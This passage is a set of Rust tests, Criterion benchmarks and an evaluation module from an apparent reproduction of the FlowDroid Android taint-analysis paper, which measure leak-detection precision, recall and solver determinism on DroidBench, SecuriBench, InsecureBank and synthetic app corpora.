                if let Stmt::Invoke { result: Some(res), .. } = self.stmt(call) {
                    return vec![Some(*res)];
                }
            }
        }
        vec![]
    }

    fn call_to_return_flow(&self, call: StmtRef, _return_site: StmtRef, d: &Fact) -> Vec<Fact> {
        let mut out = vec![*d];
        if d.is_none() {
            if let Stmt::Invoke { result: Some(res), .. } = self.stmt(call) {
                out.push(Some(*res));
            }
        }
        out
    }
}

/// The sharded parallel solver reaches the exact sequential fixed
/// point — same statements, same fact sets, same propagation count —
/// on every DroidBench app at 1, 2, 4 and 8 threads.
#[test]
fn parallel_ifds_solver_matches_sequential_on_droidbench() {
    for app in all_apps() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let loaded = app.load(&mut p).expect("suite app parses");
        let model =
            EntryPointModel::build(&mut p, &platform, &loaded, CallbackAssociation::PerComponent);
        let dummy = generate_dummy_main(&mut p, &platform, &model, "det");
        let cg = CallGraph::build(&p, &[dummy], CgAlgorithm::Cha);
        let icfg = Icfg::new(&p, &cg);
        let problem = DefinedLocals { icfg, entry: dummy };
        let sequential = Solver::new(&icfg, &problem).solve();

        let mut seq_stmts: Vec<StmtRef> = sequential.reached_stmts().copied().collect();
        seq_stmts.sort();
        for threads in [1usize, 2, 4, 8] {
            let parallel = ParallelSolver::new(&icfg, &problem, threads).solve();
            let mut par_stmts: Vec<StmtRef> = parallel.reached_stmts().copied().collect();
            par_stmts.sort();
            assert_eq!(
                seq_stmts, par_stmts,
                "{}: reached statements diverged at {threads} threads",
                app.name
            );
            for n in &seq_stmts {
                let mut a: Vec<Fact> = sequential.facts_at(*n).to_vec();
                let mut b: Vec<Fact> = parallel.facts_at(*n).to_vec();
                a.sort();
                b.sort();
                assert_eq!(a, b, "{}: facts at {n:?} diverged at {threads} threads", app.name);
            }
            assert_eq!(
                sequential.propagation_count(),
                parallel.propagation_count(),
                "{}: propagation count diverged at {threads} threads",
                app.name
            );
        }
    }
}
