//! Aborted runs must never poison the persistent summary cache: an
//! aborted `ParBiSolver` run (any thread count) stages zero cache
//! entries, and a subsequent non-aborted run over the same cache
//! directory produces a report byte-identical to an uncached run.

use flowdroid_bench::driver::{find_job, run_single};
use flowdroid_core::{flush_summary_cache, AbortHandle, AbortReason, InfoflowConfig};
use std::path::PathBuf;
use std::time::Duration;

fn temp_cache(tag: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("flowdroid-abort-cache-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

#[test]
fn aborted_parallel_run_stages_nothing_and_later_runs_match_uncached() {
    let job = find_job("insecurebank").expect("insecurebank is in the corpus");
    let baseline = run_single(&job, &InfoflowConfig::default());
    assert!(!baseline.aborted);
    assert!(baseline.leaks > 0, "insecurebank has known leaks");

    for threads in [1usize, 2, 4] {
        let dir = temp_cache(&threads.to_string());

        // A pre-expired deadline aborts the parallel solver on its
        // first poll, mid-analysis from the cache's point of view.
        let aborted = run_single(
            &job,
            &InfoflowConfig::default()
                .with_taint_threads(threads)
                .with_summary_cache(&dir)
                .with_abort(AbortHandle::with_deadline(Duration::ZERO)),
        );
        assert!(aborted.aborted, "{threads} threads: zero deadline must abort");
        assert_eq!(aborted.abort_reason, Some(AbortReason::Deadline));
        let cache = aborted.summary_cache.expect("cache stats present");
        assert_eq!(
            cache.recorded, 0,
            "{threads} threads: aborted run staged {} summaries",
            cache.recorded
        );

        // Even after a flush, the store holds nothing from the aborted
        // run, so a clean run over the same directory behaves exactly
        // like an uncached one.
        flush_summary_cache(&dir).expect("flush");
        let clean = run_single(
            &job,
            &InfoflowConfig::default().with_taint_threads(threads).with_summary_cache(&dir),
        );
        assert!(!clean.aborted);
        assert_eq!(
            clean.report, baseline.report,
            "{threads} threads: report diverged from the uncached baseline"
        );
        let cache = clean.summary_cache.expect("cache stats present");
        assert_eq!(cache.hits, 0, "{threads} threads: nothing was staged, so nothing can hit");
        assert_eq!(cache.store_methods, 0, "{threads} threads: visible store must be empty");

        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn stress_chain_has_exactly_one_leak() {
    let job = find_job("stress/50").expect("stress jobs resolve by name");
    let run = run_single(&job, &InfoflowConfig::default());
    assert!(!run.aborted);
    assert_eq!(run.leaks, 1, "the synthetic chain leaks its source once");
}
