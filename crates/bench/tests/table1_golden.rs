//! Golden regression net: the rendered Table-1 summary block is fully
//! deterministic (all three tools are), so any drift in any analysis
//! shows up here as a diff.

use flowdroid_bench::eval::{format_table1, run_table1};

#[test]
fn table1_summary_block_is_stable() {
    let rows = run_table1();
    let text = format_table1(&rows);
    let tail: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.starts_with("-- Sum"))
        .collect();
    let rendered = tail.join("\n");
    let expected = "\
-- Sum, Precision and Recall --
★ (higher is better)                  9         14         26
☆ (lower is better)                   7          7          4
○ (lower is better)                  19         14          2
Precision                           56%        67%        87%
Recall                              32%        50%        93%
F-measure                          0.41       0.57       0.90";
    assert_eq!(rendered, expected, "full table:\n{text}");
}

#[test]
fn table1_flowdroid_marks_match_the_paper_rows() {
    let rows = run_table1();
    let by_name = |n: &str| rows.iter().find(|r| r.app == n).unwrap();
    // The four FlowDroid false positives…
    for fp in ["ArrayAccess1", "ArrayAccess2", "ListAccess1"] {
        let r = by_name(fp);
        assert_eq!((r.expected, r.reported.2), (0, 1), "{fp}");
    }
    let b2 = by_name("Button2");
    assert_eq!((b2.expected, b2.reported.2), (1, 2));
    // …and the two misses.
    for miss in ["IntentSink1", "StaticInitialization1"] {
        let r = by_name(miss);
        assert_eq!((r.expected, r.reported.2), (1, 0), "{miss}");
    }
}
