//! E4/E5 — RQ3: the synthetic Google-Play-like and VirusShare-like
//! corpora (see DESIGN.md §3 for the substitution). The paper's shape:
//! malware-like apps are smaller and analyze faster, averaging ~1.85
//! leaks per app; benign-like apps mostly leak identifiers into
//! logs/preferences.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use flowdroid_bench::corpus::AppProfile;
use flowdroid_bench::eval::{run_rq3, run_rq3_parallel};

fn bench(c: &mut Criterion) {
    // Full paper-scale corpora: 500 Play-like apps, 1000 malware-like.
    let benign = run_rq3(AppProfile::BenignLike, 500, 2014);
    let malware = run_rq3(AppProfile::MalwareLike, 1000, 2014);
    println!("\nRQ3a (Google-Play-like, n={}):", benign.apps);
    println!(
        "  leaks/app {:.2}, mean {:?}, min {:?}, max {:?}",
        benign.leaks_per_app, benign.mean, benign.min, benign.max
    );
    println!("RQ3b (VirusShare-like, n={}):", malware.apps);
    println!(
        "  leaks/app {:.2}, mean {:?}, min {:?}, max {:?}",
        malware.leaks_per_app, malware.mean, malware.min, malware.max
    );
    assert!(malware.leaks_per_app > 1.0 && malware.leaks_per_app < 3.0);

    // Parallel corpus sweep (across-app parallelism).
    let par = run_rq3_parallel(AppProfile::MalwareLike, 1000, 2014, 4);
    println!(
        "RQ3b parallel (4 workers): leaks/app {:.2}, per-app mean {:?}",
        par.leaks_per_app, par.mean
    );
    assert_eq!(par.leaks, malware.leaks, "parallel run finds identical leaks");

    let mut group = c.benchmark_group("rq3");
    for (name, profile) in
        [("benign_like", AppProfile::BenignLike), ("malware_like", AppProfile::MalwareLike)]
    {
        group.bench_with_input(BenchmarkId::new("analyze_10_apps", name), &profile, |b, &p| {
            b.iter(|| run_rq3(p, 10, 7).leaks)
        });
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
