//! A1 — access-path length sweep (the paper's default is 5, §4.1:
//! "user-customizable maximal length (5 by default)"). Shorter paths
//! over-approximate (more false positives), longer paths cost time.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use flowdroid_bench::eval::{flowdroid_on, run_ablation_access_path};
use flowdroid_core::InfoflowConfig;
use flowdroid_droidbench::all_apps;

fn bench(c: &mut Criterion) {
    println!("\nAblation A1: access-path length over DroidBench");
    println!("{:>3} {:>4} {:>4} {:>12}", "k", "TP", "FP", "time");
    for (k, tp, fp, dur) in run_ablation_access_path(&[1, 2, 3, 5, 7]) {
        println!("{k:>3} {tp:>4} {fp:>4} {dur:>12?}");
    }

    let apps = all_apps();
    let fs4 = apps.iter().find(|a| a.name == "FieldSensitivity4").unwrap();
    let mut group = c.benchmark_group("ablation_access_path");
    for k in [1usize, 3, 5, 7] {
        let config = InfoflowConfig::default().with_access_path_length(k);
        group.bench_with_input(BenchmarkId::new("fieldsensitivity4", k), &config, |b, cfg| {
            b.iter(|| flowdroid_on(fs4, cfg).0)
        });
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
