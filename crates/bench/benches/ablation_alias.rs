//! A2 — alias-analysis variants (paper §4.2): disabling the on-demand
//! backward analysis loses recall; the naive handover (no context
//! injection) and disabling activation statements lose precision —
//! exactly the Listing 2 / Listing 3 false positives.

use criterion::{criterion_group, criterion_main, Criterion};
use flowdroid_bench::eval::{aliasing_group_score, flowdroid_on, run_ablation_alias};
use flowdroid_core::InfoflowConfig;
use flowdroid_droidbench::all_apps;

fn bench(c: &mut Criterion) {
    println!("\nAblation A2: alias machinery over DroidBench");
    println!("{:<22} {:>4} {:>4}", "variant", "TP", "FP");
    for (name, tp, fp) in run_ablation_alias() {
        println!("{name:<22} {tp:>4} {fp:>4}");
    }
    println!("\nAblation A2b: SecuriBench Aliasing group (11 real leaks)");
    println!("{:<22} {:>4} {:>4}", "variant", "TP", "FP");
    let variants = [
        ("full (paper)", InfoflowConfig::default()),
        ("no alias analysis", InfoflowConfig::default().with_alias_analysis(false)),
        ("naive handover", InfoflowConfig::default().with_context_injection(false)),
        (
            "no activation stmts",
            InfoflowConfig::default().with_activation_statements(false),
        ),
    ];
    for (name, config) in variants {
        let (tp, fp) = aliasing_group_score(&config);
        println!("{name:<22} {tp:>4} {fp:>4}");
    }

    let apps = all_apps();
    let loc = apps.iter().find(|a| a.name == "LocationLeak1").unwrap();
    let full = InfoflowConfig::default();
    let no_alias = InfoflowConfig::default().with_alias_analysis(false);
    c.bench_function("ablation_alias/full", |b| b.iter(|| flowdroid_on(loc, &full).0));
    c.bench_function("ablation_alias/no_alias", |b| b.iter(|| flowdroid_on(loc, &no_alias).0));
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
