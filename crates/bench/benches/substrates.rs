//! Substrate micro-benchmarks: front ends, call graph and IFDS solver
//! throughput (the components of paper Figure 4's pipeline).

use criterion::{criterion_group, criterion_main, Criterion};
use flowdroid_android::install_platform;
use flowdroid_bench::corpus::{generate_app, AppProfile};
use flowdroid_callgraph::{CallGraph, CgAlgorithm};
use flowdroid_frontend::sdex;
use flowdroid_ir::Program;

fn bench(c: &mut Criterion) {
    let g = generate_app(AppProfile::BenignLike, 0, 99);

    c.bench_function("substrates/jasm_parse_app", |b| {
        b.iter(|| {
            let mut p = Program::new();
            install_platform(&mut p);
            g.load(&mut p).classes.len()
        })
    });

    // SDEX encode/decode round trip on the same app.
    let mut p = Program::new();
    install_platform(&mut p);
    let app = g.load(&mut p);
    let bytes = sdex::encode(&p, &app.classes);
    println!("\nsubstrates: SDEX image of {} classes = {} bytes", app.classes.len(), bytes.len());
    c.bench_function("substrates/sdex_decode", |b| {
        b.iter(|| {
            let mut q = Program::new();
            sdex::decode(&mut q, &bytes).unwrap().len()
        })
    });

    // Call-graph construction over the dummy-main-reachable program.
    {
        let mut q = Program::new();
        let pl = install_platform(&mut q);
        let _ = pl;
    };
    let mut q = Program::new();
    let pl = install_platform(&mut q);
    let loaded = g.load(&mut q);
    let model = flowdroid_android::EntryPointModel::build(
        &mut q,
        &pl,
        &loaded,
        flowdroid_android::CallbackAssociation::PerComponent,
    );
    let main = flowdroid_android::generate_dummy_main(&mut q, &pl, &model, "bench");
    c.bench_function("substrates/callgraph_cha", |b| {
        b.iter(|| CallGraph::build(&q, &[main], CgAlgorithm::Cha).reachable_methods().len())
    });
    c.bench_function("substrates/callgraph_rta", |b| {
        b.iter(|| CallGraph::build(&q, &[main], CgAlgorithm::Rta).reachable_methods().len())
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
