//! E1 — regenerates the paper's Table 1 (DroidBench: AppScan-like vs
//! Fortify-like vs FlowDroid) and benchmarks a full FlowDroid run over
//! the suite.

use criterion::{criterion_group, criterion_main, Criterion};
use flowdroid_bench::eval::{flowdroid_on, format_table1, run_table1};
use flowdroid_core::InfoflowConfig;
use flowdroid_droidbench::all_apps;

fn bench(c: &mut Criterion) {
    // Print the reproduced table once.
    let rows = run_table1();
    println!("\n{}", format_table1(&rows));

    let apps = all_apps();
    c.bench_function("table1/flowdroid_full_suite", |b| {
        b.iter(|| {
            let mut total = 0usize;
            for app in apps.iter().filter(|a| a.in_table) {
                total += flowdroid_on(app, &InfoflowConfig::default()).0;
            }
            assert_eq!(total, 30);
        })
    });
    let direct = apps.iter().find(|a| a.name == "DirectLeak1").unwrap();
    c.bench_function("table1/flowdroid_single_app", |b| {
        b.iter(|| flowdroid_on(direct, &InfoflowConfig::default()).0)
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
