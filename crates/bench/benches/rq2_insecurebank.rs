//! E3 — RQ2: InsecureBank. The paper reports all 7 leaks found with no
//! false positives/negatives in ~31 s on a 2010-era laptop; the
//! reproduction checks the 7/7 result and measures the analysis time.

use criterion::{criterion_group, criterion_main, Criterion};
use flowdroid_bench::eval::run_rq2;

fn bench(c: &mut Criterion) {
    let (found, expected, dur) = run_rq2();
    println!("\nRQ2 (InsecureBank): {found}/{expected} leaks, analysis took {dur:?}");
    assert_eq!(found, 7);

    c.bench_function("rq2/insecurebank_full_analysis", |b| {
        b.iter(|| {
            let (found, _, _) = run_rq2();
            assert_eq!(found, 7);
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
