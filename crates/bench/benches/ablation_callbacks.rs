//! A3 — callback association (paper §3): associating callbacks with the
//! component that registers them both improves precision and "decreases
//! the runtime of the following taint analysis" compared to pooling
//! every callback into every component.

use criterion::{criterion_group, criterion_main, Criterion};
use flowdroid_android::CallbackAssociation;
use flowdroid_bench::eval::{flowdroid_on, run_ablation_callbacks};
use flowdroid_core::InfoflowConfig;
use flowdroid_droidbench::all_apps;

fn bench(c: &mut Criterion) {
    println!("\nAblation A3: callback association over DroidBench");
    println!("{:<24} {:>4} {:>4} {:>12}", "variant", "TP", "FP", "time");
    for (name, tp, fp, dur) in run_ablation_callbacks() {
        println!("{name:<24} {tp:>4} {fp:>4} {dur:>12?}");
    }

    let apps = all_apps();
    let bank = flowdroid_droidbench::insecurebank::insecure_bank();
    let _ = &apps;
    let per = InfoflowConfig::default();
    let global =
        InfoflowConfig::default().with_callback_association(CallbackAssociation::Global);
    c.bench_function("ablation_callbacks/per_component", |b| {
        b.iter(|| flowdroid_on(&bank, &per).0)
    });
    c.bench_function("ablation_callbacks/global", |b| {
        b.iter(|| flowdroid_on(&bank, &global).0)
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
