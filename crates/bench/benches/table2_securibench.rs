//! E2 — regenerates the paper's Table 2 (SecuriBench Micro per-group
//! TP/FP) and benchmarks the whole-suite run.

use criterion::{criterion_group, criterion_main, Criterion};
use flowdroid_android::install_platform;
use flowdroid_bench::eval::run_table2;
use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;
use flowdroid_securibench::{all_cases, MICRO_DEFS, MICRO_ENV};

fn bench(c: &mut Criterion) {
    println!("\n{}", run_table2());

    let cases = all_cases();
    c.bench_function("table2/securibench_full_suite", |b| {
        b.iter(|| {
            let mut leaks = 0usize;
            for case in &cases {
                let mut p = Program::new();
                install_platform(&mut p);
                let rt = ResourceTable::new();
                parse_jasm(&mut p, &rt, MICRO_ENV).unwrap();
                parse_jasm(&mut p, &rt, &case.code).unwrap();
                let sources = SourceSinkManager::parse(MICRO_DEFS).unwrap();
                let wrapper = TaintWrapper::default_rules();
                let config = InfoflowConfig::default();
                let entry = p.find_method(&case.entry_class, "main").unwrap();
                leaks += Infoflow::new(&sources, &wrapper, &config).run(&p, &[entry]).leak_count();
            }
            assert_eq!(leaks, 126); // 117 TP + 9 FP
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(std::time::Duration::from_secs(1))
        .measurement_time(std::time::Duration::from_secs(3));
    targets = bench
}
criterion_main!(benches);
