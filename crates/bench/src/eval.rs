//! Runners and printers for every table and figure of the paper's
//! evaluation (see DESIGN.md §2 for the experiment index).

use crate::corpus::{generate_app, AppProfile};
use flowdroid_android::{install_platform, CallbackAssociation};
use flowdroid_baselines::BaselineTool;
use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_droidbench::{all_apps, AppScore, BenchApp};
use flowdroid_ir::Program;
use std::time::{Duration, Instant};

/// Runs the reproduced FlowDroid on a DroidBench app; returns the
/// number of reported leaks and the data-flow duration.
pub fn flowdroid_on(app: &BenchApp, config: &InfoflowConfig) -> (usize, Duration) {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = app.load(&mut p).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let infoflow = Infoflow::new(&sources, &wrapper, config);
    let start = Instant::now();
    let analysis = infoflow.analyze_app(&mut p, &platform, &loaded, "bench");
    (analysis.results.leak_count(), start.elapsed())
}

fn baseline_on(tool: BaselineTool, app: &BenchApp) -> usize {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = app.load(&mut p).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    flowdroid_baselines::analyze_app(tool, &mut p, &platform, &loaded, &sources, &wrapper).leak_count()
}

/// One row of the reproduced Table 1.
#[derive(Debug, Clone)]
pub struct Table1Row {
    /// App name.
    pub app: &'static str,
    /// Category title.
    pub category: &'static str,
    /// Real leaks in the app.
    pub expected: usize,
    /// Leaks reported by each tool: (AppScan-like, Fortify-like,
    /// FlowDroid).
    pub reported: (usize, usize, usize),
}

/// Runs all three tools over the Table-1 apps.
pub fn run_table1() -> Vec<Table1Row> {
    all_apps()
        .iter()
        .filter(|a| a.in_table)
        .map(|a| Table1Row {
            app: a.name,
            category: a.category.title(),
            expected: a.expected_leaks,
            reported: (
                baseline_on(BaselineTool::AppScanLike, a),
                baseline_on(BaselineTool::FortifyLike, a),
                flowdroid_on(a, &InfoflowConfig::default()).0,
            ),
        })
        .collect()
}

/// Formats the reproduced Table 1 (same layout as the paper:
/// ★ correct warning, ☆ false warning, ○ missed leak).
pub fn format_table1(rows: &[Table1Row]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    let mark = |expected: usize, found: usize| -> String {
        let tp = expected.min(found);
        let fp = found - tp;
        let miss = expected - tp;
        let mut s = String::new();
        s.push_str(&"★".repeat(tp));
        s.push_str(&"☆".repeat(fp));
        s.push_str(&"○".repeat(miss));
        if s.is_empty() {
            s.push('—');
        }
        s
    };
    writeln!(out, "Table 1: DroidBench results (★ correct, ☆ false alarm, ○ missed)").unwrap();
    writeln!(out, "{:<28} {:>10} {:>10} {:>10}", "App", "AppScan~", "Fortify~", "FlowDroid").unwrap();
    let mut cur_cat = "";
    let mut scores = [AppScore::default(), AppScore::default(), AppScore::default()];
    for r in rows {
        if r.category != cur_cat {
            cur_cat = r.category;
            writeln!(out, "-- {cur_cat} --").unwrap();
        }
        writeln!(
            out,
            "{:<28} {:>10} {:>10} {:>10}",
            r.app,
            mark(r.expected, r.reported.0),
            mark(r.expected, r.reported.1),
            mark(r.expected, r.reported.2),
        )
        .unwrap();
        scores[0].add(AppScore::from_counts(r.expected, r.reported.0));
        scores[1].add(AppScore::from_counts(r.expected, r.reported.1));
        scores[2].add(AppScore::from_counts(r.expected, r.reported.2));
    }
    writeln!(out, "-- Sum, Precision and Recall --").unwrap();
    writeln!(
        out,
        "{:<28} {:>10} {:>10} {:>10}",
        "★ (higher is better)", scores[0].tp, scores[1].tp, scores[2].tp
    )
    .unwrap();
    writeln!(
        out,
        "{:<28} {:>10} {:>10} {:>10}",
        "☆ (lower is better)", scores[0].fp, scores[1].fp, scores[2].fp
    )
    .unwrap();
    writeln!(
        out,
        "{:<28} {:>10} {:>10} {:>10}",
        "○ (lower is better)", scores[0].fn_, scores[1].fn_, scores[2].fn_
    )
    .unwrap();
    writeln!(
        out,
        "{:<28} {:>9.0}% {:>9.0}% {:>9.0}%",
        "Precision",
        scores[0].precision() * 100.0,
        scores[1].precision() * 100.0,
        scores[2].precision() * 100.0
    )
    .unwrap();
    writeln!(
        out,
        "{:<28} {:>9.0}% {:>9.0}% {:>9.0}%",
        "Recall",
        scores[0].recall() * 100.0,
        scores[1].recall() * 100.0,
        scores[2].recall() * 100.0
    )
    .unwrap();
    writeln!(
        out,
        "{:<28} {:>10.2} {:>10.2} {:>10.2}",
        "F-measure",
        scores[0].f_measure(),
        scores[1].f_measure(),
        scores[2].f_measure()
    )
    .unwrap();
    out
}

/// Runs and formats the reproduced Table 2.
pub fn run_table2() -> String {
    use flowdroid_frontend::layout::ResourceTable;
    use flowdroid_frontend::parse_jasm;
    use flowdroid_securibench::{cases_in, Group, MICRO_DEFS, MICRO_ENV};
    use std::fmt::Write;

    let mut out = String::new();
    writeln!(out, "Table 2: SecuriBench Micro results").unwrap();
    writeln!(out, "{:<16} {:>8} {:>6}", "Test-case group", "TP", "FP").unwrap();
    let (mut ttp, mut treal, mut tfp) = (0usize, 0usize, 0usize);
    for group in Group::all() {
        let (mut tp, mut fp, mut real) = (0usize, 0usize, 0usize);
        for case in cases_in(group) {
            let mut p = Program::new();
            install_platform(&mut p);
            let rt = ResourceTable::new();
            parse_jasm(&mut p, &rt, MICRO_ENV).unwrap();
            parse_jasm(&mut p, &rt, &case.code).unwrap();
            let sources = SourceSinkManager::parse(MICRO_DEFS).unwrap();
            let wrapper = TaintWrapper::default_rules();
            let config = InfoflowConfig::default();
            let entry = p.find_method(&case.entry_class, "main").unwrap();
            let found = Infoflow::new(&sources, &wrapper, &config).run(&p, &[entry]).leak_count();
            real += case.expected_leaks;
            let ctp = case.expected_leaks.min(found);
            tp += ctp;
            fp += found - ctp;
        }
        writeln!(out, "{:<16} {:>5}/{:<3} {:>5}", group.to_string(), tp, real, fp).unwrap();
        ttp += tp;
        treal += real;
        tfp += fp;
    }
    writeln!(out, "{:<16} {:>5}/{:<3} {:>5}", "Sum", ttp, treal, tfp).unwrap();
    out
}

/// RQ2: analyzes InsecureBank; returns (leaks found, expected, duration).
pub fn run_rq2() -> (usize, usize, Duration) {
    let app = flowdroid_droidbench::insecurebank::insecure_bank();
    let (found, dur) = flowdroid_on(&app, &InfoflowConfig::default());
    (found, app.expected_leaks, dur)
}

/// Aggregate statistics over one synthetic corpus (RQ3).
#[derive(Debug, Clone)]
pub struct Rq3Stats {
    /// Apps analyzed.
    pub apps: usize,
    /// Total leaks reported.
    pub leaks: usize,
    /// Leaks per app.
    pub leaks_per_app: f64,
    /// Mean analysis duration.
    pub mean: Duration,
    /// Minimum analysis duration.
    pub min: Duration,
    /// Maximum analysis duration.
    pub max: Duration,
}

/// RQ3: analyzes `n` apps of the given profile.
pub fn run_rq3(profile: AppProfile, n: usize, seed: u64) -> Rq3Stats {
    let mut durations = Vec::with_capacity(n);
    let mut leaks = 0usize;
    for i in 0..n {
        let g = generate_app(profile, i, seed);
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = g.load(&mut p);
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        let config = InfoflowConfig::default();
        let start = Instant::now();
        let analysis =
            Infoflow::new(&sources, &wrapper, &config).analyze_app(&mut p, &platform, &app, "rq3");
        durations.push(start.elapsed());
        leaks += analysis.results.leak_count();
    }
    let total: Duration = durations.iter().sum();
    Rq3Stats {
        apps: n,
        leaks,
        leaks_per_app: leaks as f64 / n.max(1) as f64,
        mean: total / n.max(1) as u32,
        min: durations.iter().min().copied().unwrap_or_default(),
        max: durations.iter().max().copied().unwrap_or_default(),
    }
}

/// RQ3 with the per-app analyses spread over worker threads (the
/// paper's Heros solver is multi-threaded *within* one app; analyzing a
/// corpus parallelizes more naturally *across* apps).
pub fn run_rq3_parallel(profile: AppProfile, n: usize, seed: u64, workers: usize) -> Rq3Stats {
    let workers = workers.max(1);
    let results = std::sync::Mutex::new(Vec::with_capacity(n));
    std::thread::scope(|scope| {
        for w in 0..workers {
            let results = &results;
            scope.spawn(move || {
                let mut local = Vec::new();
                let mut i = w;
                while i < n {
                    let g = generate_app(profile, i, seed);
                    let mut p = Program::new();
                    let platform = install_platform(&mut p);
                    let app = g.load(&mut p);
                    let sources = SourceSinkManager::default_android();
                    let wrapper = TaintWrapper::default_rules();
                    let config = InfoflowConfig::default();
                    let start = Instant::now();
                    let analysis = Infoflow::new(&sources, &wrapper, &config)
                        .analyze_app(&mut p, &platform, &app, "rq3p");
                    local.push((start.elapsed(), analysis.results.leak_count()));
                    i += workers;
                }
                results.lock().unwrap().extend(local);
            });
        }
    });
    let results = results.into_inner().unwrap();
    let leaks: usize = results.iter().map(|(_, l)| l).sum();
    let durations: Vec<Duration> = results.iter().map(|(d, _)| *d).collect();
    let total: Duration = durations.iter().sum();
    Rq3Stats {
        apps: n,
        leaks,
        leaks_per_app: leaks as f64 / n.max(1) as f64,
        mean: total / n.max(1) as u32,
        min: durations.iter().min().copied().unwrap_or_default(),
        max: durations.iter().max().copied().unwrap_or_default(),
    }
}

/// Ablation A1: access-path length sweep over the Table-1 apps.
/// Returns (k, TP, FP, total duration) per configuration.
pub fn run_ablation_access_path(lengths: &[usize]) -> Vec<(usize, usize, usize, Duration)> {
    let apps = all_apps();
    lengths
        .iter()
        .map(|&k| {
            let config = InfoflowConfig::default().with_access_path_length(k);
            let mut score = AppScore::default();
            let mut total = Duration::default();
            for app in apps.iter().filter(|a| a.in_table) {
                let (found, dur) = flowdroid_on(app, &config);
                score.add(AppScore::from_counts(app.expected_leaks, found));
                total += dur;
            }
            (k, score.tp, score.fp, total)
        })
        .collect()
}

/// Runs one config over the SecuriBench Aliasing group; returns
/// (TP, FP) — the group where the on-demand alias analysis matters
/// most.
pub fn aliasing_group_score(config: &InfoflowConfig) -> (usize, usize) {
    use flowdroid_frontend::layout::ResourceTable;
    use flowdroid_frontend::parse_jasm;
    use flowdroid_securibench::{cases_in, Group, MICRO_DEFS, MICRO_ENV};
    let (mut tp, mut fp) = (0usize, 0usize);
    for case in cases_in(Group::Aliasing) {
        let mut p = Program::new();
        install_platform(&mut p);
        let rt = ResourceTable::new();
        parse_jasm(&mut p, &rt, MICRO_ENV).unwrap();
        parse_jasm(&mut p, &rt, &case.code).unwrap();
        let sources = SourceSinkManager::parse(MICRO_DEFS).unwrap();
        let wrapper = TaintWrapper::default_rules();
        let entry = p.find_method(&case.entry_class, "main").unwrap();
        let found = Infoflow::new(&sources, &wrapper, config).run(&p, &[entry]).leak_count();
        let ctp = case.expected_leaks.min(found);
        tp += ctp;
        fp += found - ctp;
    }
    (tp, fp)
}

/// Ablation A2: alias-analysis variants over the Table-1 apps.
/// Returns (variant name, TP, FP).
pub fn run_ablation_alias() -> Vec<(&'static str, usize, usize)> {
    let variants: Vec<(&'static str, InfoflowConfig)> = vec![
        ("full (paper)", InfoflowConfig::default()),
        ("no alias analysis", InfoflowConfig::default().with_alias_analysis(false)),
        ("naive handover", InfoflowConfig::default().with_context_injection(false)),
        (
            "no activation stmts",
            InfoflowConfig::default().with_activation_statements(false),
        ),
    ];
    let apps = all_apps();
    variants
        .into_iter()
        .map(|(name, config)| {
            let mut score = AppScore::default();
            for app in apps.iter().filter(|a| a.in_table) {
                let (found, _) = flowdroid_on(app, &config);
                score.add(AppScore::from_counts(app.expected_leaks, found));
            }
            (name, score.tp, score.fp)
        })
        .collect()
}

/// Ablation A3: per-component vs global callback association.
/// Returns (variant, TP, FP, total duration).
pub fn run_ablation_callbacks() -> Vec<(&'static str, usize, usize, Duration)> {
    let variants = [
        ("per-component (paper)", CallbackAssociation::PerComponent),
        ("global callbacks", CallbackAssociation::Global),
    ];
    let apps = all_apps();
    variants
        .into_iter()
        .map(|(name, assoc)| {
            let config = InfoflowConfig::default().with_callback_association(assoc);
            let mut score = AppScore::default();
            let mut total = Duration::default();
            for app in apps.iter().filter(|a| a.in_table) {
                let (found, dur) = flowdroid_on(app, &config);
                score.add(AppScore::from_counts(app.expected_leaks, found));
                total += dur;
            }
            (name, score.tp, score.fp, total)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
